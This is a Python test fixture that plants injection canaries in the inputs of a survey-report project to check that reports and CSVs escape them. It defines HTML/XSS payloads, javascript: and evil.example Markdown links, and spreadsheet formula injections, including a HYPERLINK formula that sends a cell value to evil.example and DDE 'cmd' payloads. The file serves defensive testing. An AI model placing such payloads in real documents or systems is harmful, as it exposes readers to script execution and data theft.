"""Hostile text planted in every input of a project copy (see ``test_injection.py``).

:func:`plant_canaries` rewrites a copy's params, codebook, raw exports and
reach export so that every text that can reach a report or a CSV carries an
HTML, Markdown, link or spreadsheet-formula canary, while the data stays valid
(the pipeline must still run). The canaries are visible text: a correct report
shows them escaped; a broken one turns them into elements or attributes.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import yaml

CAMPAIGN = "together"

HTML = {
    "img": "<img src=x onerror=alert('img')>",
    "script": "<script>alert('script')</script>",
    "svg": "<svg onload=alert('svg')>",
    "iframe": '<iframe src="javascript:alert(\'iframe\')"></iframe>',
    "a-js": '<a href="javascript:alert(\'a\')">click</a>',
    "attr-dq": 'x" onmouseover="alert(\'dq\')" data-x="',
    "attr-sq": "x' onfocus='alert(\"sq\")' autofocus='",
    "close-table": "</td></tr></table><img src=x onerror=alert('table')>",
    "comment": "--><img src=x onerror=alert('comment')><!--",
    "style": "<style>body{color:red}</style>",
}
#: CSS that would fetch from the network if it were live (kept out of the full run: see
#: ``test_injection.py::test_escaped_css_url_text_does_not_block_the_report``).
CSS_FETCH = "<style>body{background:url(//evil.example/x)}</style> @import 'x.css';"
MARKDOWN = {
    "md-js-link": "[click me](javascript:alert('md'))",
    "md-link": "[evil site](http://evil.example/phish)",
    "md-image": "![x](http://evil.example/x.png)",
    "md-autolink": "<http://evil.example/auto>",
    "bare-js": "javascript:alert('bare')",
}
FORMULA = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ALL = {**HTML, **MARKDOWN, **FORMULA}
#: Mongolian labels of these choices get a canary, in the codebook and in the endline answers.
#: (Their labels must be unique across lists: the endline answers are replaced by label text.)
ANSWER_CANARIES = {("agree5", "neutral"): HTML["close-table"], ("agree5", "disagree"): MARKDOWN["md-js-link"]}

#: Strings that must never appear as a URL anywhere in the report (a Markdown link would create them).
EVIL_HOST = "evil.example"


def _yaml_edit(path: Path) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["title"] = f"Together {HTML['script']} {MARKDOWN['md-link']}"
    data["stage"] = f"{MARKDOWN['md-js-link']} {HTML['img']}"
    labels = [HTML["img"], HTML["attr-dq"], FORMULA["eq"]]
    data["groups"] = {g: f"{labels[i % len(labels)]} {label}" for i, (g, label) in enumerate(data["groups"].items())}
    pool = [HTML["script"], FORMULA["at"], HTML["svg"], FORMULA["plus"], HTML["iframe"], HTML["a-js"],
            HTML["attr-sq"], HTML["close-table"], MARKDOWN["md-image"]]
    for i, ind in enumerate(data["indicators"]):
        ind["label"] = f"{pool[i % len(pool)]} {ind['label']}"
    texts = [FORMULA["minus"], HTML["comment"], MARKDOWN["md-autolink"], HTML["style"], MARKDOWN["bare-js"],
             FORMULA["eq"]]
    for i, claim in enumerate(data.get("claims", [])):
        claim["text"] = f"{texts[i % len(texts)]} {claim['text']}"
    data.setdefault("cleaning", {})["free_text"] = "keep_scrubbed"
    # a column name canary: the v1 header of the renamed question, mapped in params
    data.setdefault("renames", {})["baseline"] = {HTML["img"]: "know/self_know_sen"}
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _codebook_edit(path: Path) -> dict[str, str]:
    """Canary English labels everywhere; one Mongolian choice label too (returned: old -> new)."""
    wb = openpyxl.load_workbook(path)
    changed = {}
    survey, choices, settings = wb["survey"], wb["choices"], wb["settings"]
    head = [c.value for c in survey[1]]
    en = head.index("label::English (en)") + 1
    for r in range(2, survey.max_row + 1):
        if survey.cell(row=r, column=en).value:
            survey.cell(row=r, column=en, value=f"{HTML['img']} {survey.cell(row=r, column=en).value}")
    head = [c.value for c in choices[1]]
    en, mn = head.index("label::English (en)") + 1, head.index("label::Mongolian (mn)") + 1
    name, lst = head.index("name") + 1, head.index("list_name") + 1
    for r in range(2, choices.max_row + 1):
        choices.cell(row=r, column=en, value=f"{HTML['attr-dq']} {choices.cell(row=r, column=en).value}")
        answer_canary = ANSWER_CANARIES.get((choices.cell(row=r, column=lst).value, choices.cell(row=r, column=name).value))
        if answer_canary:
            old = choices.cell(row=r, column=mn).value
            changed[old] = answer_canary + " " + old
            choices.cell(row=r, column=mn, value=changed[old])
    head = [c.value for c in settings[1]]
    settings.cell(row=2, column=head.index("form_title") + 1, value=f"{HTML['script']} survey")
    wb.save(path)
    return changed


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


def _baseline_edit(path: Path) -> None:
    rows = _csv_rows(path)
    head = rows[0]
    head[head.index("know/know_well")] = HTML["img"]
    c = head.index("comments")
    canaries = list(ALL.values())
    for i in range(1, len(rows)):
        rows[i][c] = canaries[i % len(canaries)] + " call me on +976 99112233"
    _write_csv(path, rows)


def _endline_edit(path: Path, labels: dict[str, str]) -> None:
    wb = openpyxl.load_workbook(path)
    ws = wb.worksheets[0]
    head = [c.value for c in ws[1]]
    comments = head.index("comments") + 1 if "comments" in head else None
    canaries = list(ALL.values())
    folded = {old.casefold(): new for old, new in labels.items()}
    for r in range(2, ws.max_row + 1):
        for j in range(1, len(head) + 1):
            v = ws.cell(row=r, column=j).value
            if isinstance(v, str) and v.strip().casefold() in folded:
                ws.cell(row=r, column=j, value=folded[v.strip().casefold()])
        if comments:
            ws.cell(row=r, column=comments, value=canaries[r % len(canaries)])
    wb.save(path)


def _reach_edit(path: Path) -> None:
    rows = _csv_rows(path)
    t = rows[0].index("title")
    canaries = list(ALL.values())
    for i in range(1, len(rows)):
        rows[i][t] = canaries[i % len(canaries)]
    _write_csv(path, rows)


def plant_canaries(root: Path) -> None:
    """Rewrite the Together inputs of the project copy ``root`` with canaries."""
    params = root / "params" / f"{CAMPAIGN}.yaml"
    raw = root / "data" / "raw" / CAMPAIGN
    p = yaml.safe_load(params.read_text(encoding="utf-8"))
    _yaml_edit(params)
    labels = _codebook_edit(raw / p["raw"]["codebook"])
    _baseline_edit(raw / p["raw"]["baseline"]["file"])
    _endline_edit(raw / p["raw"]["endline"]["file"], labels)
    if p["raw"].get("reach"):
        _reach_edit(raw / p["raw"]["reach"])
